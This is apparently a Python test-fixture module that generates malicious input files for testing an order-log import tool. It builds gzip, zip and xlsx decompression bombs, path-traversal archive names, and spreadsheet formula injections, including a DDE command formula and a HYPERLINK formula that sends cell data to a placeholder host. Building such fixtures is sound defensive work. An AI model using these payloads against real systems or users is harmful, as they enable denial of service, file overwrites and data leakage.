"""Files that should never have landed, made small on disk and large in memory."""

import gzip
import io
import json
import struct
import zipfile
from collections.abc import Iterator
from pathlib import Path

import xlsxwriter

HEAD = "订单号,买家,下单时间,金额\n"
GOOD = "{},ann,2026-10-01 09:00:00,10\n"
SOURCE = """label: {{en: Orders, zh: 订单}}
log: orders
format: {format}
columns:
  order_id: 订单号
  customer_id: 买家
  placed_at: {{from: 下单时间, format: "%Y-%m-%d %H:%M:%S"}}
  amount: 金额
"""
MEGABYTE = 1024 * 1024


def text(rows: int) -> bytes:
    """A good CSV."""
    return (HEAD + "".join(GOOD.format(i) for i in range(rows))).encode()


def truncated_gzip(path: Path, size: int) -> None:
    """A download that broke off; the first `size` bytes can be unpacked."""
    packed = gzip.compress(text(size // 30), compresslevel=1)
    path.write_bytes(packed[: len(packed) * 2 // 3])


def corrupt_gzip(path: Path, size: int) -> None:
    """Every byte is there, but the last block says that they are wrong."""
    packed = bytearray(gzip.compress(text(size // 30)))
    packed[-8] ^= 0xFF
    path.write_bytes(packed)


def gzip_bomb(path: Path, size: int) -> None:
    """A header, then so many zero bytes."""
    with gzip.open(path, "wb") as file:
        file.write(text(1))
        for chunk in _zeros(size):
            file.write(chunk)


def zip_bomb(path: Path, size: int) -> None:
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as book:
        _member(book, "orders.csv", text(1), size)


def zip_in_zip(path: Path, size: int) -> None:
    """A bomb within a bomb: each level looks harmless."""
    inner = io.BytesIO()
    with zipfile.ZipFile(inner, "w", zipfile.ZIP_DEFLATED) as book:
        _member(book, "orders.csv", text(1), size)
    with zipfile.ZipFile(path, "w") as book:
        for position in range(16):
            book.writestr(f"{position}.zip", inner.getvalue())


def lying_zip(path: Path, size: int) -> None:
    """A bomb whose directory says that it is small."""
    zip_bomb(path, size)
    content = bytearray(path.read_bytes())
    directory = content.rfind(b"PK\x01\x02")
    content[directory + 24 : directory + 28] = struct.pack("<I", 1000)
    content[22:26] = struct.pack("<I", 1000)
    path.write_bytes(content)


def crowded_zip(path: Path, members: int) -> None:
    with zipfile.ZipFile(path, "w") as book:
        for position in range(members):
            book.writestr(f"{position}.csv", text(1))


def climbing_zip(path: Path) -> None:
    """Names that point out of the folder in which they are unpacked."""
    with zipfile.ZipFile(path, "w") as book:
        for name in ("../../climbed.csv", "/tmp/climbed.csv", "..\\..\\climbed.csv"):
            book.writestr(name, text(1))


def locked_zip(path: Path) -> None:
    """The flag that says: encrypted; what follows is noise."""
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as book:
        book.writestr("orders.csv", text(9))
    content = bytearray(path.read_bytes())
    for mark, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        content[content.find(mark) + offset] |= 1
    path.write_bytes(content)


def long_line(path: Path, size: int) -> None:
    """Good records around one line that does not end."""
    with path.open("wb") as file:
        file.write(text(1) + b"2,")
        for _ in range(size // MEGABYTE):
            file.write(b"x" * MEGABYTE)
        file.write(b",2026-10-01 09:00:00,10\n" + GOOD.format(3).encode())


def no_line(path: Path, size: int) -> None:
    """One line and nothing else."""
    with path.open("wb") as file:
        for _ in range(size // MEGABYTE):
            file.write(b"x" * MEGABYTE)


def long_json_line(path: Path, size: int) -> None:
    with path.open("wb") as file:
        file.write(_json("1"))
        file.write(b'{"x": "')
        for _ in range(size // MEGABYTE):
            file.write(b"x" * MEGABYTE)
        file.write(b'"}\n' + _json("3"))


def million_columns(path: Path, columns: int) -> None:
    names = ",".join(f"c{i}" for i in range(columns))
    cells = "," * (columns - 1)
    path.write_text(HEAD.strip() + f",{names}\n" + GOOD.strip().format(1) + f",{cells}\n", "utf-8")


def million_cells(path: Path, columns: int) -> None:
    """The header is good; one record is not."""
    path.write_bytes(text(1) + b"2" + b"," * columns + b"\n" + GOOD.format(3).encode())


def million_keys(path: Path, columns: int) -> None:
    wide = json.dumps({f"c{i}": i for i in range(columns)} | json.loads(_json("2")))
    path.write_bytes(_json("1") + wide.encode() + b"\n" + _json("3"))


def deep_json(path: Path, depth: int) -> None:
    path.write_bytes(_json("1") + b'{"a":' * depth + b"1" + b"}" * depth + b"\n" + _json("3"))


def formulas(path: Path, *, computed: bool) -> None:
    """Record 1 is typed in, record 2 has an amount that a formula made, record 3 an error."""
    book = xlsxwriter.Workbook(path)
    sheet = book.add_worksheet()
    sheet.write_row(0, 0, HEAD.strip().split(","))
    for row in range(1, 4):
        sheet.write_row(row, 0, [str(row), "ann", "2026-10-01 09:00:00", "10"])
    sheet.write_formula(2, 3, "=5*2", value=10)
    sheet.write_formula(3, 3, "=1/0", value="#DIV/0!")
    book.close()
    if not computed:
        _rewrite_sheet(path, b"<v>10</v>", b"")


def injections(path: Path) -> None:
    """Formulas that reach out of the workbook, where a name should be."""
    book = xlsxwriter.Workbook(path)
    sheet = book.add_worksheet()
    sheet.write_row(0, 0, HEAD.strip().split(","))
    reaching = (
        "=cmd|'/c calc'!A1",
        '=HYPERLINK("http://example.invalid/?"&A2,"x")',
        '=WEBSERVICE("http://example.invalid/")',
        "=[elsewhere.xlsx]Sheet1!A1",
    )
    for row, formula in enumerate(reaching, start=1):
        sheet.write_row(row, 0, [str(row), "", "2026-10-01 09:00:00", "10"])
        sheet.write_formula(row, 1, formula, value="ann")
        sheet.write_string(row, 0, f"={row}")
    book.close()


def xlsx_bomb(path: Path, size: int) -> None:
    """A workbook whose sheet unpacks to so many bytes of empty rows."""
    formulas(path, computed=True)
    with zipfile.ZipFile(path) as book:
        members = {name: book.read(name) for name in book.namelist()}
    sheet = members.pop("xl/worksheets/sheet1.xml")
    start, end = sheet.split(b"</sheetData>")
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as book:
        for name, content in members.items():
            book.writestr(name, content)
        with book.open("xl/worksheets/sheet1.xml", "w", force_zip64=True) as file:
            file.write(start)
            row = 9
            while size > 0:
                block = b"".join(_row(row + i) for i in range(4000))
                file.write(block)
                row, size = row + 4000, size - len(block)
            file.write(b"</sheetData>" + end)


def program(path: Path) -> None:
    """A renamed binary."""
    path.write_bytes(b"\x7fELF\x02\x01\x01" + bytes(range(256)) * 4000)


def locked_workbook(path: Path) -> None:
    """Excel wraps a workbook with a password in the old compound format."""
    path.write_bytes(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 5000)


def _member(book: zipfile.ZipFile, name: str, start: bytes, size: int) -> None:
    with book.open(name, "w", force_zip64=True) as file:
        file.write(start)
        for chunk in _zeros(size):
            file.write(chunk)


def _zeros(size: int) -> Iterator[bytes]:
    chunk = bytes(16 * MEGABYTE)
    for done in range(0, size, len(chunk)):
        yield chunk[: size - done]


def _row(number: int) -> bytes:
    cells = b"".join(b'<c r="%c%d" t="str"><v>x</v></c>' % (c, number) for c in b"ABCD")
    return b'<row r="%d">' % number + cells + b"</row>"


def _json(order: str) -> bytes:
    names, cells = HEAD.strip().split(","), GOOD.strip().format(order).split(",")
    return json.dumps(dict(zip(names, cells, strict=True))).encode() + b"\n"


def _rewrite_sheet(path: Path, old: bytes, new: bytes) -> None:
    with zipfile.ZipFile(path) as book:
        members = {name: book.read(name) for name in book.namelist()}
    sheet = "xl/worksheets/sheet1.xml"
    assert old in members[sheet]
    members[sheet] = members[sheet].replace(old, new)
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as book:
        for name, content in members.items():
            book.writestr(name, content)
